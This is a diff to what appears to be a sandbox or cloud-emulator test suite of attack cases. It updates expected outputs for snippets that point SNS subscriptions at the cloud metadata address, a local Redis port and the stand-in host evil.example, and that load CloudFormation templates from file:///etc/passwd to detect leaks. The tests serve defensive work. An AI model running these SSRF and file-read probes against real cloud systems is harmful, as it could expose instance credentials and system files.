@@ -134,7 +134,7 @@ for url in {METADATA[:3]!r}:
             *["True False"] * len(METADATA),
             "container MetadataRetrievalError",
             "instance {}",
-            *["plain EPERM"] * 3,
+            *["plain ENETUNREACH"] * 3,
         ),
     ),
     Attack(
@@ -251,7 +251,7 @@ sns = boto3.client('sns')
 topic = sns.create_topic(Name='t')['TopicArn']
 for target in ('http://169.254.169.254/latest', 'http://127.0.0.1:6379/', 'https://evil.example/'):
     sns.subscribe(TopicArn=topic, Protocol=target.split(':')[0], Endpoint=target)
-tried('sns', lambda: bool(sns.publish(TopicArn=topic, Message='x')))
+tried('sns', lambda: bool(sns.publish(TopicArn=topic, Message='x')))  # to nobody: all are pending
 for url in ('file:///etc/passwd', 'http://169.254.169.254/', 'https://s3.amazonaws.com/x/y'):
     try:
         boto3.client('cloudformation').create_stack(StackName='s', TemplateURL=url)
@@ -259,6 +259,6 @@ for url in ('file:///etc/passwd', 'http://169.254.169.254/', 'https://s3.amazona
     except Exception as error:
         print('root:' in str(error))
 """,
-        prints=("sns NotSimulatedError", "False", "False", "False"),
+        prints=("sns True", "False", "False", "False"),
     ),
 )
